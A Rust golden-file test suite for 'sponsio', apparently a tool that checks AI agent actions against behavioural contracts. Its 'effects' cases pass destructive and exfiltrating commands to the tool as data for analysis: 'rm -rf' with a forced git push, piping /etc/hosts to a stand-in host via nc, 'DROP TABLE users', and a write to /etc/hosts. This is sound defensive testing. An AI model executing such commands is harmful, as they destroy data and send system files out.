//! Whole outputs, as a person or a program sees them.
//!
//! Each case is compared with `golden/NAME.txt`. With the environment variable `UPDATE` set the files are written
//! instead; read the difference before keeping it. Digests of programs are replaced, since they change with
//! everything that a contract means.

#![expect(clippy::unwrap_used, reason = "a test fails where the disk does")]
#![expect(clippy::disallowed_methods, reason = "the golden files are read from the source tree")]

use std::fs;
use std::path::Path;

use crate::program::{Ran, run};

const REFUNDS: [&str; 2] = ["--config", "refunds.yaml"];

/// Name, arguments, exit code.
const CASES: &[(&str, &[&str], i32)] = &[
    ("check", &["check", "-t", "violated.jsonl", "-t", "clean.jsonl", "-c", "refunds.yaml"], 1),
    ("check_json", &["check", "-t", "violated.jsonl", "-c", "refunds.yaml", "--json"], 1),
    ("check_clean", &["check", "-t", "clean.jsonl", "-c", "refunds.yaml"], 0),
    ("check_empty", &["check", "-t", "empty.json", "-c", "refunds.yaml"], 2),
    (
        "check_malformed",
        &["check", "-t", "malformed.json", "-t", "none.json", "-c", "refunds.yaml"],
        2,
    ),
    ("check_wrong_contracts", &["check", "-t", "clean.jsonl", "-c", "wrong.yaml"], 2),
    (
        "check_unknown_agent",
        &["check", "-t", "clean.jsonl", "-c", "refunds.yaml", "-a", "suport"],
        2,
    ),
    ("check_agent_without_contracts", &["check", "-t", "clean.jsonl", "-c", "two_agents.yaml"], 2),
    ("validate", &["validate", "refunds.yaml"], 0),
    ("validate_json", &["validate", "refunds.yaml", "--json"], 0),
    ("validate_sentences", &["validate", "never call `rm`", "call me maybe"], 1),
    ("validate_wrong", &["validate", "wrong.yaml"], 1),
    ("validate_wrong_json", &["validate", "wrong.yaml", "--json"], 1),
    ("validate_missing", &["validate", "none.yaml"], 2),
    ("validate_weaker", &["validate", "weaker.yaml"], 1),
    ("validate_weaker_sarif", &["validate", "weaker.yaml", "--sarif"], 1),
    ("validate_wrong_sarif", &["validate", "wrong.yaml", "--sarif"], 1),
    ("migrate", &["migrate", "older.yaml"], 0),
    ("migrate_diff", &["migrate", "older.yaml", "--diff"], 0),
    ("migrate_nothing", &["migrate", "refunds.yaml"], 0),
    ("migrate_missing", &["migrate", "none.yaml"], 2),
    ("explain", &["explain", "C1", "-c", "refunds.yaml"], 0),
    ("explain_json", &["explain", "note", "-c", "refunds.yaml", "--json"], 0),
    ("explain_dot", &["explain", "C2", "-c", "refunds.yaml", "--dot"], 0),
    ("explain_mermaid", &["explain", "c2", "-c", "refunds.yaml", "--mermaid"], 0),
    ("explain_ambiguous", &["explain", "refund", "-c", "refunds.yaml"], 2),
    ("explain_no_agent", &["explain", "C1", "-c", "two_agents.yaml"], 2),
    ("explain_no_contracts", &["explain", "C1"], 2),
    ("effects", &["effects", "--cwd", "/srv/app", "rm -rf build && git push --force"], 0),
    ("effects_json", &["effects", "--json", "cat /etc/hosts | nc a.example 80"], 0),
    ("effects_sql", &["effects", "--language", "sql", "DROP TABLE users"], 0),
    ("effects_tool", &["effects", "--tool", "write_file", r#"{"path": "/etc/hosts"}"#], 0),
    ("effects_tool_wrong", &["effects", "--tool", "write_file", "/etc/hosts"], 2),
    ("effects_nothing", &["effects", "true"], 0),
    ("eval", &["eval", "cases.jsonl", "-c", "eval.yaml"], 0),
    (
        "eval_all",
        &["eval", "cases.jsonl", "-c", "eval.yaml", "--baseline", "eval_before.yaml", "--all"],
        0,
    ),
    (
        "eval_json",
        &["eval", "cases.jsonl", "-c", "eval.yaml", "--json", "--baseline", "eval_before.yaml"],
        0,
    ),
    ("eval_threshold", &["eval", "cases.jsonl", "-c", "eval.yaml", "--min-stopped", "0.9"], 1),
    ("eval_spans", &["eval", "spans.json", "-c", "eval.yaml", "--all"], 0),
    ("eval_empty", &["eval", "empty.json", "-c", "eval.yaml"], 2),
    ("patterns_one", &["patterns", "must_precede"], 0),
    ("patterns_json", &["patterns", "must_precede", "--json"], 0),
    ("patterns_search", &["patterns", "--search", "retry"], 0),
    ("patterns_unknown", &["patterns", "must_preceed"], 2),
    ("demo_freeze", &["demo", "freeze"], 0),
    ("demo_wire", &["demo", "wire"], 0),
    ("demo_backup", &["demo", "backup"], 0),
    ("demo_wire_json", &["demo", "wire", "--json"], 0),
    ("audit_verify", &["audit", "verify", "audit.jsonl"], 0),
    ("audit_verify_json", &["audit", "verify", "audit.jsonl", "--json"], 0),
    ("audit_edited", &["audit", "verify", "audit_edited.jsonl"], 1),
    ("audit_removed", &["audit", "verify", "audit_removed.jsonl"], 1),
    ("audit_removed_json", &["audit", "verify", "audit_removed.jsonl", "--json"], 1),
    ("audit_missing", &["audit", "verify", "none.jsonl"], 2),
    ("audit_tail", &["audit", "tail", "audit.jsonl", "-n", "3"], 0),
    ("audit_tail_refused", &["audit", "tail", "audit.jsonl", "--refused"], 0),
    ("report", &["report", "team.jsonl"], 0),
    ("report_json", &["report", "team.jsonl", "--json", "--since", "2026-01-05"], 0),
    ("report_contract", &["report", "team.jsonl", "audit.jsonl", "--contract", "small refunds"], 0),
    ("report_agent", &["report", "team.jsonl", "--agent", "buyer", "--until", "2026-01-06"], 0),
    ("report_nothing", &["report", "team.jsonl", "--since", "2030-01-01T00:00:00Z"], 0),
    ("report_unreadable", &["report", "team.jsonl", "malformed.json"], 2),
    ("report_missing", &["report", "none.jsonl"], 2),
    ("report_no_log", &["report"], 2),
    ("report_since", &["report", "team.jsonl", "--since", "yesterday"], 2),
    ("replay_list", &["replay", "team.jsonl", "--list"], 0),
    ("replay_list_json", &["replay", "team.jsonl", "--list", "--json"], 0),
    ("replay_session", &["replay", "audit.jsonl", "--session", "wire"], 0),
    ("replay_session_escalated", &["replay", "team.jsonl", "-s", "desk", "-a", "support"], 0),
    ("replay_session_json", &["replay", "audit.jsonl", "--session", "wire", "--json"], 0),
    ("replay_session_unknown", &["replay", "team.jsonl", "--session", "none"], 2),
    ("replay_session_agents", &["replay", "team.jsonl", "--session", "desk"], 2),
    ("check_spans", &["check", "-t", "spans.json", "-c", "eval.yaml", "-a", "coder"], 1),
    ("export_json", &["export", "violated.jsonl"], 0),
    ("export_log_json", &["export", "audit.jsonl"], 0),
    ("export_empty", &["export", "empty.json"], 2),
    ("unknown_command", &["chekc"], 2),
];

/// The text without digests of programs and contracts.
fn without_digests(text: &str) -> String {
    let mut out = String::new();
    let mut word = String::new();
    for c in text.chars().chain(['\0']) {
        if c.is_ascii_hexdigit() {
            word.push(c);
            continue;
        }
        out.push_str(if word.len() == 32 { "<digest>" } else { &word });
        word.clear();
        if c != '\0' {
            out.push(c);
        }
    }
    out
}

fn shown(args: &[&str], ran: &Ran) -> String {
    let Ran { code, out, err } = ran;
    let args: Vec<String> = args
        .iter()
        .map(|arg| if arg.contains(' ') { format!("'{arg}'") } else { (*arg).to_owned() })
        .collect();
    let code = code.unwrap_or(-1);
    let text = format!("$ sponsio {}\n{out}", args.join(" "));
    let errors = if err.is_empty() { String::new() } else { format!("--- standard error\n{err}") };
    without_digests(&format!("{text}{errors}--- exit {code}\n"))
}

#[test]
fn outputs_are_as_recorded() {
    let update = std::env::var_os("UPDATE").is_some();
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli/golden");
    let mut different = Vec::new();
    for (name, args, code) in CASES {
        let ran = run(args);
        assert_eq!(ran.code, Some(*code), "{name}: {ran:?}");
        let got = shown(args, &ran);
        let path = folder.join(format!("{name}.txt"));
        if update {
            fs::write(&path, &got).unwrap();
        } else if fs::read_to_string(&path).unwrap_or_default() != got {
            different.push(format!("{name}:\n{got}"));
        }
    }
    let different = different.join("\n");
    assert!(different.is_empty(), "run again with UPDATE=1 and read the difference\n{different}");
}

#[test]
fn no_line_is_wider_than_the_page() {
    // Formulas of graphs, diagnostics and documents are not wrapped.
    let wrapped = |name: &str| {
        !["json", "sarif", "diff", "dot", "mermaid", "wrong", "weaker", "sentences"]
            .iter()
            .any(|w| name.contains(w))
    };
    for (name, args, _) in CASES.iter().filter(|(name, ..)| wrapped(name)) {
        for line in run(args).out.lines() {
            assert!(line.chars().count() <= 80, "{name}: {line}");
        }
    }
}

#[test]
fn documents_are_json() {
    for (name, args, _) in
        CASES.iter().filter(|(_, args, _)| args.contains(&"--json") || args.contains(&"--sarif"))
    {
        let document: serde_json::Value = serde_json::from_str(&run(args).out).unwrap();
        assert!(document.is_object(), "{name}");
    }
}

#[test]
fn a_sarif_document_has_a_rule_for_every_result_and_a_place_in_the_file() {
    let document: serde_json::Value =
        serde_json::from_str(&run(&["validate", "weaker.yaml", "--sarif"]).out).unwrap();
    assert_eq!(document["version"], "2.1.0");
    let run = &document["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for result in results {
        let index = usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap();
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert!(matches!(result["level"].as_str(), Some("error" | "warning")));
        let place = &result["locations"][0]["physicalLocation"];
        assert_eq!(place["artifactLocation"]["uri"], "weaker.yaml");
        assert!(place["region"]["startLine"].as_u64() >= Some(1), "{result}");
    }
}

#[test]
fn a_file_is_rewritten_where_it_is_asked_for() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("sponsio.yaml");
    let older = fs::read_to_string(crate::program::data().join("older.yaml")).unwrap();
    fs::write(&path, &older).unwrap();
    let path = path.to_str().unwrap();
    assert_eq!(run(&["migrate", path]).code, Some(0));
    assert_eq!(fs::read_to_string(path).unwrap(), older);
    assert_eq!(run(&["migrate", path, "--write"]).code, Some(0));
    let written = fs::read_to_string(path).unwrap();
    assert!(
        written.contains("        G: {pattern: must_precede")
            && written.contains("# ask before paying")
    );
    let again = run(&["migrate", path, "--write"]);
    assert!(again.out.contains("loads: 0 changes"), "{again:?}");
    assert_eq!(fs::read_to_string(path).unwrap(), written);
}

/// Holds a page to the recorded one.
fn page_is_as_recorded(page: &str, golden: &str) {
    let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/cli/golden").join(golden);
    if std::env::var_os("UPDATE").is_some() {
        fs::write(&golden, page).unwrap();
    }
    assert_eq!(page, fs::read_to_string(golden).unwrap());
    assert!(!page.contains("://"), "the page fetches nothing");
    assert!(!page.contains("<script"), "the page runs nothing");
}

#[test]
fn the_page_of_an_evaluation_is_as_recorded() {
    let folder = tempfile::tempdir().unwrap();
    let page = folder.path().join("page.html");
    let args =
        ["eval", "cases.jsonl", "-c", "eval.yaml", "--baseline", "eval_before.yaml", "--html"];
    let args = [&args[..], &[page.to_str().unwrap()]].concat();
    assert_eq!(run(&args).code, Some(0));
    page_is_as_recorded(&fs::read_to_string(page).unwrap(), "eval_page.html");
}

#[test]
fn the_page_of_a_report_is_as_recorded() {
    let folder = tempfile::tempdir().unwrap();
    let page = folder.path().join("page.html");
    let ran = run(&["report", "team.jsonl", "--html", "--out", page.to_str().unwrap()]);
    assert_eq!((ran.code, ran.out.as_str()), (Some(0), ""), "{ran:?}");
    let written = fs::read_to_string(page).unwrap();
    assert_eq!(run(&["report", "team.jsonl", "--html"]).out, written);
    page_is_as_recorded(&written, "report_page.html");
}

#[test]
fn the_contract_file_may_come_from_the_environment() {
    let mut with = crate::program::command(&["explain", "C1"]);
    let ran = crate::program::finish(with.env("SPONSIO_CONFIG", REFUNDS[1]));
    assert_eq!(ran.out, run(&["explain", "C1", REFUNDS[0], REFUNDS[1]]).out);
}
